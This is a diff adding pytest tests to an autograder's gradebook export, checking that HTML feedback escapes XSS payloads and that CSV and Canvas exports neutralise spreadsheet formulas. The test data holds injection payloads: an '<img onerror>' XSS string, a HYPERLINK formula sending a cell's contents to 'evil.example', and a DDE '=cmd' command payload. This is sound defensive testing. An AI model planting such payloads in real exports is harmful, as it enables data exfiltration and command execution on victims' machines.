@@ -105,3 +105,32 @@ def test_feedback_html_escapes_student_text(book):
     html = feedback_html(document, "<img src=x onerror=alert(1)>")
     assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
     assert "<img" not in html and 'href="javascript' not in html
+
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+def test_every_csv_cell_that_would_be_a_formula_is_neutralised(book, tmp_path):
+    """OWASP's CSV-injection rule on names and ids; the numbers dlgrade writes stay numbers."""
+    url = f"sqlite:///{tmp_path / 'grades.db'}"
+    with Gradebook.open(url) as gradebook:
+        for number, formula in enumerate(FORMULAS):
+            gradebook.record(StudentInfo(f"={number}", formula, "x" + formula, section=formula), f"{number:064d}",
+                             "x", [], "graded", book["bad"])
+        gradebook.override("=0", "perceptron", 1, "=cmd|' /C calc'!A0", "ta")
+        grades_csv = export(gradebook, "csv", tmp_path / "g.csv")[0]
+        canvas_csv = export(gradebook, "canvas", tmp_path / "c.csv")[0]
+    cells = [cell for path in (grades_csv, canvas_csv) for row in read_csv(path) for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    for formula in FORMULAS:
+        assert "'" + formula in cells  # kept, but inert
+    assert "'=0" in cells
+    header, *rows = read_csv(grades_csv)
+    adjustments = {row[0]: row[-1] for row in rows}
+    assert "=cmd" in adjustments["'=0"]  # inside a cell that starts otherwise: text, not a formula
+
+
+def test_numbers_dlgrade_writes_stay_numbers():
+    from autograder.gradebook.export import Numeral, csv_cell
+
+    assert csv_cell(Numeral("-5")) == "-5" and csv_cell("-5") == "'-5" and csv_cell(None) == ""
